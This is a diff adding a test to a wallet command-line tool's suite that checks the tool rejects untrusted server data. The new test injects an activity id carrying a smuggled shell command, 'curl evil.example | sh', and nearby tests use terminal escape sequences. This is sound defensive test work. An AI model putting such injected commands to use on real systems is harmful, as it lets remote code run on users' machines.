@@ -468,6 +468,20 @@ describe('what is believed of a server', () => {
     expect(terminal.shown).not.toMatch(/[\u009b\u202e]/);
   });
 
+  test('not the id of an activity, which a person pastes into the next command', async () => {
+    await using relay = await startRelay((path, text) => {
+      if (!path.endsWith('/create_wallet')) return text;
+      const { activity } = JSON.parse(text) as { activity: object };
+      const id = 'x; curl evil.example | sh #';
+      return JSON.stringify({ activity: { ...activity, id, status: 'ACTIVITY_STATUS_CONSENSUS_NEEDED' } });
+    });
+    const create = ['wallets', 'create', '--name', 'Pasted', '--account', 'ethereum'];
+    const { code, stdout, stderr } = await run(create, { KEYHEARTH_URL: relay.url });
+    expect(code).toBe(1);
+    expect(stdout + stderr).not.toContain('evil.example');
+    expect(stderr).toContain('activity.id');
+  });
+
   test('none of its words move anything on a terminal', async () => {
     const escape = '\u001b]0;owned\u0007\u202e';
     const shown = String.raw`\u001b]0;owned\u0007\u202e`;
